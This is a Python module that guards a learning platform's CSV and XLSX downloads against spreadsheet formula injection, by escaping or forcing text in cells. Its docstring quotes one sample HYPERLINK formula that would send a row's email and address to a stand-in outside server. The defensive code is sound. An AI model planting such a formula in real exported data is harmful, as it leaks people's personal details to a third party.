"""The one guard every CSV and XLSX file Testamur writes goes through.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) as a formula: a learner named `=HYPERLINK("http://x.y/?"&E2, "Open")` would
send the row's email and address to someone else's server when the file is opened (formula
injection). CSV cells that start so get a leading apostrophe, which spreadsheet programs show
as text; XLSX cells are always written as text cells, never as formulas, so they keep their
exact value. A test walks every download (tests/core/test_spreadsheet_downloads.py) and another
checks no other module writes CSV or XLSX on its own.
"""

import csv
from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """`value` as a CSV cell: text a spreadsheet would run as a formula gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_unguard(value: str) -> str:
    """A cell read back from a CSV file this guard wrote, as it was before the apostrophe."""
    if value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


class CsvWriter:
    """csv.writer with every cell guarded."""

    def __init__(self, target, **options):
        self._writer = csv.writer(target, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(target, **options) -> CsvWriter:
    return CsvWriter(target, **options)


def xlsx_cell(sheet, value):
    """A write-only cell: text always stays text (never a formula), without the control
    characters XLSX cannot hold; numbers and dates as they are."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not value.startswith("=") and value not in ERROR_CODES:
        # openpyxl stores any other text as a text cell: a plain string is cheaper than a cell
        # of its own (a million-row register export writes eleven million of them).
        return value
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell


def xlsx_row(sheet, row: Iterable) -> list:
    """A row for `sheet.append` (write-only workbooks) with every cell guarded."""
    return [xlsx_cell(sheet, value) for value in row]
